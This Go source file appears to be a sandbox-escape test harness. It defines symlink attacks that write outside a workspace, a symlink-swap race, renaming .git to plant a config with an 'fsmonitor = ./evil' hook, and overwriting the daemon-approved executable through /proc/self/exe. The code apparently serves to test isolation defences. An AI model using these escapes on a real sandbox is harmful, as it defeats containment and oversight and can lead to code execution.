package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
)

// links are attacks by symbolic links out of the workspace, which the attack creates.
func links() map[string]attack {
	return map[string]attack{
		"link-absolute": anyOf(func(target string) error { return through(target, target) }),
		"link-relative": anyOf(func(target string) error { return through("../../../../../../../.."+target, target) }),
		"link-chained":  anyOf(chained),
		"link-ancestor": anyOf(ancestor),
		"link-swapped":  swapped,
		"mv-git":        moveGit,
		"replace-self":  replaceSelf,
	}
}

// through writes through a link.
func through(text, target string) error {
	link := "link-" + filepath.Base(target)
	_ = os.Remove(link)
	if err := os.Symlink(text, link); err != nil {
		return err
	}
	return writeTo(link, os.O_WRONLY)
}

func chained(target string) error {
	_ = os.Remove("first")
	if err := os.Symlink(filepath.Dir(target), "first"); err != nil {
		return err
	}
	return through("first/"+filepath.Base(target), target)
}

// ancestor creates missing directories below a link.
func ancestor(target string) error {
	_ = os.Remove("up")
	if err := os.Symlink(filepath.Dir(target), "up"); err != nil {
		return err
	}
	if err := os.MkdirAll("up/missing/further", 0o755); err != nil {
		return err
	}
	return writeTo("up/missing/further/made", os.O_WRONLY|os.O_CREATE)
}

// swapped replaces a file by a link while another thread writes. It succeeds if a write arrives
// outside.
func swapped(targets []string) (string, error) {
	for _, target := range targets {
		if _, err := os.Lstat(target); err != nil {
			continue // the target has no name, so nothing can be swapped
		}
		if err := swapFor(target); err == nil {
			return target, nil
		}
	}
	return "", fmt.Errorf("none of %v is reached", targets)
}

func swapFor(target string) error {
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 300 {
			_ = errors.Join(os.WriteFile("plain", nil, 0o644), os.Rename("plain", "here"), os.Symlink(target, "link"), os.Rename("link", "here"))
		}
	}()
	for last := false; !last; {
		select {
		case <-done:
			last = true // the link replaces the file
		default:
		}
		_ = writeTo("here", os.O_WRONLY)
		if text, err := os.ReadFile(target); err == nil && string(text) == "attacked\n" {
			<-done
			return nil
		}
	}
	return errors.New("the target is as it was")
}

// moveGit tries to bypass a mount that protects .git.
func moveGit([]string) (string, error) {
	if err := os.Rename(".git", ".git2"); err != nil {
		return "", err
	}
	return put([]string{".git/config", "[core]\n\tfsmonitor = ./evil\n", ".git/HEAD", "ref: refs/heads/main\n"})
}

// replaceSelf changes its own program, which the daemon has approved.
func replaceSelf([]string) (string, error) {
	self, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return "", err
	}
	if err := os.Remove(self); err != nil {
		return "", err
	}
	return self, os.WriteFile(self, []byte("#!/bin/sh\n"), 0o755)
}
